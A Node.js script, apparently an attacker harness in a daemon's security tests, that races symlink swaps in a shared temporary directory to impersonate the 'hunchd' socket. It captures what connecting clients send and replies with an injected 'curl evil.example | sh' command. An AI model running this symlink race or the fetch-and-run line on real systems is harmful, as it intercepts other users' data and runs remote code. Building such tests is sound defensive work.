// Another user who has come first to a shared temporary directory: node impostor.mjs DIRECTORY HUNCH-UID VICTIM'S
//
// He listens where the daemon would, and takes turns, as fast as he can, between two things that a client may find there:
// something of its own user's, which looks right, and his own socket. Prints "ready", and in the end how often somebody
// connected and every byte that came, as JSON.
import { chmodSync, mkdirSync, renameSync, symlinkSync, writeSync } from 'node:fs';
import { createServer } from 'node:net';
import { join } from 'node:path';

const [shared, name, victims] = process.argv.slice(2);
const own = join(shared, 'impostor');
let connections = 0;
let bytes = '';

mkdirSync(own);
chmodSync(own, 0o777);
const server = createServer((peer) => {
  connections += 1;
  peer.on('error', () => undefined);
  peer.on('data', (data) => {
    bytes += data.toString('latin1');
    // A line that is put in the place of what its user would run.
    peer.write('status=ok\0text=curl evil.example | sh\0\0');
  });
});
server.listen(join(own, 'hunchd.sock'), () => {
  chmodSync(join(own, 'hunchd.sock'), 0o777);
  swap(0);
  writeSync(1, 'ready\n');
});

function swap(turn) {
  for (let at = turn; at < turn + 50; at += 1) {
    symlinkSync(at % 2 === 0 ? victims : own, join(shared, 'next'));
    renameSync(join(shared, 'next'), join(shared, name));
  }
  setImmediate(swap, turn + 50);
}

// Whoever started this is gone.
process.stdin.on('end', () => process.exit(0)).resume();
process.on('SIGTERM', () => {
  writeSync(1, `${JSON.stringify({ connections, bytes })}\n`);
  process.exit(0);
});
